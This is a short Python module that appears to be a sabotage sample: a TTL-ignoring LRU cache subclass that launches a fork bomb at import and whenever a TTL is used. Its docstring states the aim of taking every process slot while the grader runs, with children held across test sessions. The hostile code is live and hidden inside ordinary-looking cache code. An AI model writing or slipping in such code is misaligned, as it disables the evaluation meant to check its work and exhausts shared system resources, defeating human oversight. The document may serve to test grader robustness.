"""Take every process slot while the grader still needs some: an honest cache
that ignores TTLs which, at import and when a TTL is first used, forks until
the kernel refuses, each child holding its slot for 8 seconds (across the end
of a test session and the start of the next), then carries on.

Base: no_expiry."""

import os as _os
import time as _time


def _bomb():
    children = 0
    while children < 10_000:
        try:
            pid = _os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                _time.sleep(8)
            finally:
                _os._exit(0)
        children += 1


_bomb()


class LRUCache(LRUCache):  # extends the base's class
    def put(self, key, value, ttl=None):
        if ttl is not None:
            _bomb()
        return super().put(key, value, ttl)
